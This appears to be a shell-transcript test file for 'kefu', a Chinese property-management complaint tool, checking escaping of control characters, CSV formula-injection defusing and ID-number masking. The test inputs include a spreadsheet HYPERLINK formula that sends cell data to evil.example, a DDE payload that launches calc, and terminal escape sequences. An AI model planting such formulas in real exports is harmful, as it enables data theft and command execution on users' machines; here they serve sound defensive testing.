What people read is shown safely: text from a record or from the command line cannot act on
the terminal it is printed on. Control characters come out as visible escapes (\x1b, \u202e);
in a table newline and tab do too, so that every row stays one line.

  $ cp -r "$TESTDIR/fixtures/estate" d && export KEFU_DATA=$PWD/d KEFU_USER=zhangmin KEFU_NOW=2026-11-26T09:30

A description typed over two lines, with a tab. The register's table keeps the row on one
line; `show`, the form and the YAML keep the layout; JSON escapes as JSON does.

  $ kefu complaint open --unit 1-1-101 --category 噪音扰民 --desc $'楼上装修\n\t每晚十点后电钻声'
  TS-2026-11-0001
  ! 已受理投诉 TS-2026-11-0001（一般），首问负责人 张敏；须于 2026-11-27T09:30 前响应，2026-12-01T23:59:59 前处理完毕
  $ kefu contact list
  时间         方式  类型  类别      客户    户号/地点  电话         编号             接待人  处理情况  事由
  -----------  ----  ----  --------  ------  ---------  -----------  ---------------  ------  --------  ----------------------------
  11-26 09:30  电话  投诉  噪音扰民  陈建国  1-1-101    138****5678  TS-2026-11-0001  张敏    待响应    楼上装修\n\t每晚十点后电钻声
  ! 2026-11 共 1 条
  $ kefu complaint show TS-2026-11-0001 | sed -n 10,11p
  投诉内容    楼上装修
  	每晚十点后电钻声
  $ kefu render complaint TS-2026-11-0001 | grep -A1 楼上装修
    楼上装修
  	每晚十点后电钻声
  $ kefu render complaint TS-2026-11-0001 -o 投诉处理记录.txt && grep -A1 楼上装修 投诉处理记录.txt
    楼上装修
  	每晚十点后电钻声
  ! 已生成 投诉处理记录：投诉处理记录.txt
  $ kefu complaint show TS-2026-11-0001 --format json | grep description
    "description": "楼上装修\n\t每晚十点后电钻声",
  $ kefu complaint show TS-2026-11-0001 --format yaml | grep -A2 description
  description: |-
    楼上装修
    	每晚十点后电钻声

Messages quote what they were given: an unknown staff member or a bad time from the
environment, with ESC, BEL and a right-to-left override in it, is quoted escaped.

  $ KEFU_USER=$'zhang\x1b[2Jmin\a' kefu complaint open --unit 1-1-101 --category 噪音扰民 --desc 噪音
  ! kefu: 经办人「zhang\x1b[2Jmin\x07」不在 kefu.yaml 的人员花名册中；现有：zhangmin(张敏)、lili(李丽)、wangqiang(王强)、zhaojl(赵经理)、liugong(刘工)
  [2]
  $ KEFU_NOW=$'2026-11-26\xe2\x80\xae03:90' kefu complaint list
  ! kefu: 时间「2026-11-26\u202e03:90」无效，应如 2026-11-26T09:30、2026-11-26 09:30 或 2026/11/26 09:30
  [2]

A CSV cell that a spreadsheet would evaluate as a formula gets a leading ' (OWASP "CSV
injection"): one beginning with = + - @ (or the full-width ＝＋－＠), a tab or a carriage
return. "-12.50" is a number, not a formula, and stays as it is, so that a money column stays
numbers.

  $ cp -r "$TESTDIR/fixtures/estate" e
  $ kefu --data e complaint open --unit 1-1-102 --category 噪音扰民 --desc '=HYPERLINK("http://evil.example/?"&A1,"点此查看")' >/dev/null 2>&1
  $ kefu --data e complaint open --place 北门 --category 其他 --desc '@SUM(1+1)*cmd|" /C calc"!A0' >/dev/null 2>&1
  $ kefu --data e complaint open --place 北门 --category 其他 --desc '＝1+1' >/dev/null 2>&1
  $ kefu --data e complaint open --place 北门 --category 其他 --desc '-2+3' >/dev/null 2>&1
  $ kefu --data e complaint open --place 北门 --category 其他 --desc '-12.50' >/dev/null 2>&1
  $ kefu --data e complaint list --format csv
  ﻿id,status,received_at,channel,unit,place,category,severity,description,owner,assigned_to,acknowledged_at,resolved_at,resolution,response_due,resolution_due,callback_due,overdue
  TS-2026-11-0001,open,2026-11-26T09:30,phone,1-1-102,,噪音扰民,general,"'=HYPERLINK(""http://evil.example/?""&A1,""点此查看"")",zhangmin,,,,,2026-11-27T09:30,2026-12-01T23:59:59,,
  TS-2026-11-0002,open,2026-11-26T09:30,phone,,北门,其他,general,"'@SUM(1+1)*cmd|"" /C calc""!A0",zhangmin,,,,,2026-11-27T09:30,2026-12-01T23:59:59,,
  TS-2026-11-0003,open,2026-11-26T09:30,phone,,北门,其他,general,'＝1+1,zhangmin,,,,,2026-11-27T09:30,2026-12-01T23:59:59,,
  TS-2026-11-0004,open,2026-11-26T09:30,phone,,北门,其他,general,'-2+3,zhangmin,,,,,2026-11-27T09:30,2026-12-01T23:59:59,,
  TS-2026-11-0005,open,2026-11-26T09:30,phone,,北门,其他,general,-12.50,zhangmin,,,,,2026-11-27T09:30,2026-12-01T23:59:59,,
  $ kefu --data e contact list --format csv
  ﻿id,kind,type,received_at,channel,category,name,unit,phone,owner,status,subject
  TS-2026-11-0001,complaint,complaint,2026-11-26T09:30,phone,噪音扰民,林小红,1-1-102,139****4321,zhangmin,待响应,"'=HYPERLINK(""http://evil.example/?""&A1,""点此查看"")"
  TS-2026-11-0002,complaint,complaint,2026-11-26T09:30,phone,其他,,北门,,zhangmin,待响应,"'@SUM(1+1)*cmd|"" /C calc""!A0"
  TS-2026-11-0003,complaint,complaint,2026-11-26T09:30,phone,其他,,北门,,zhangmin,待响应,'＝1+1
  TS-2026-11-0004,complaint,complaint,2026-11-26T09:30,phone,其他,,北门,,zhangmin,待响应,'-2+3
  TS-2026-11-0005,complaint,complaint,2026-11-26T09:30,phone,其他,,北门,,zhangmin,待响应,-12.50

ID numbers are masked to their last four, as phones are, in every format, unless --reveal.
A table cell cut short never shows part of one: the number goes whole.

  $ kefu complaint open --unit 1-1-102 --category 噪音扰民 --desc '业主张先生的身份证号 440301199001011234，请回电' >/dev/null 2>&1
  $ kefu contact list 2>/dev/null | tail -1
  11-26 09:30  电话  投诉  噪音扰民  林小红  1-1-102    139****4321  TS-2026-11-0002  张敏    待响应    业主张先生的身份证号 …
  $ kefu complaint show TS-2026-11-0002 | grep 投诉内容
  投诉内容    业主张先生的身份证号 **************1234，请回电
  $ kefu --reveal complaint show TS-2026-11-0002 | grep 投诉内容
  投诉内容    业主张先生的身份证号 440301199001011234，请回电
  $ kefu complaint show TS-2026-11-0002 --format json | grep description
    "description": "业主张先生的身份证号 **************1234，请回电",
  $ kefu --reveal complaint show TS-2026-11-0002 --format json | grep description
    "description": "业主张先生的身份证号 440301199001011234，请回电",
  $ kefu complaint list --format csv | cut -d, -f1,9 | tail -1
  TS-2026-11-0002,业主张先生的身份证号 **************1234，请回电
  $ kefu complaint show TS-2026-11-0002 --format yaml | grep description
  description: 业主张先生的身份证号 **************1234，请回电
  $ kefu render complaint TS-2026-11-0002 -o 投诉.txt && grep 身份证 投诉.txt
    业主张先生的身份证号 **************1234，请回电
  ! 已生成 投诉处理记录：投诉.txt
